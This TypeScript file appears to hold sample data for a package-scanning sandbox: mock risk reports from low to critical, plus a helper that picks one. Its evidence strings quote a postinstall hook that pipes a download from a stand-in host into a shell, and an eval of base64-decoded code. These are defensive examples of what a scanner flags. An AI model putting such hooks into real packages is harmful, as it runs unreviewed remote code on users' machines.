import type { ScanReport } from '../scans/report.ts';

type Sample = Omit<ScanReport, 'usage'>;

const install = {
  rule: 'install-script-download',
  severity: 'critical',
  title: 'An install script downloads and runs a program',
  file: 'package.json',
  line: 12,
  evidence: '"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"',
  advice: 'Do not install this package. Install with scripts disabled to read it.',
} as const;

const unpinned = {
  rule: 'unpinned-action',
  severity: 'medium',
  title: 'A workflow uses an action that is not pinned to a commit',
  file: '.github/workflows/ci.yml',
  line: 9,
  evidence: 'uses: example/setup@main',
  advice: 'Pin the action to a full commit hash.',
} as const;

const obfuscated = {
  rule: 'obfuscated-code',
  severity: 'high',
  title: 'A script decodes and evaluates a hidden program',
  file: 'lib/index.js',
  line: 3,
  evidence: "eval(Buffer.from(payload, 'base64').toString())",
  advice: 'Ask the maintainer for the source of the hidden program before you run this.',
} as const;

/** The reports of sandbox scans. */
export const sampleReports: Readonly<Record<'low' | 'medium' | 'high' | 'critical', Sample>> = {
  low: {
    riskLevel: 'low',
    riskScore: 8,
    summary: 'Sample report: nothing here runs at installation, and no known risk was found.',
    findings: [],
    partial: false,
  },
  medium: {
    riskLevel: 'medium',
    riskScore: 38,
    summary: 'Sample report: the code is readable, but its build trusts what others may change.',
    findings: [unpinned],
    partial: false,
  },
  high: {
    riskLevel: 'high',
    riskScore: 74,
    summary: 'Sample report: a part of the code is hidden, and runs when the package is loaded.',
    findings: [obfuscated, unpinned],
    partial: true,
  },
  critical: {
    riskLevel: 'critical',
    riskScore: 96,
    summary: 'Sample report: installation runs a program from the internet. Do not install it.',
    findings: [install, obfuscated, unpinned],
    partial: false,
  },
};

/** The failure of a sandbox scan whose sample is `failed`. */
export const sampleFailure = 'Sample failure: the source could not be fetched';

/**
 * The sample that a submission asks for.
 *
 * @param source - an address, whose last path segment counts; or a file's name, without extension.
 * @returns null for the failure.
 */
export function sampleOf(source: { readonly url: string } | { readonly fileName: string }) {
  const name =
    'url' in source
      ? new URL(source.url).pathname.split('/').filter(Boolean).at(-1)
      : source.fileName.replace(/\.[^.]*$/, '');
  if (name === 'failed') return null;
  const [, known] = Object.entries(sampleReports).find(([level]) => level === name) ?? [];
  return known ?? sampleReports.low;
}
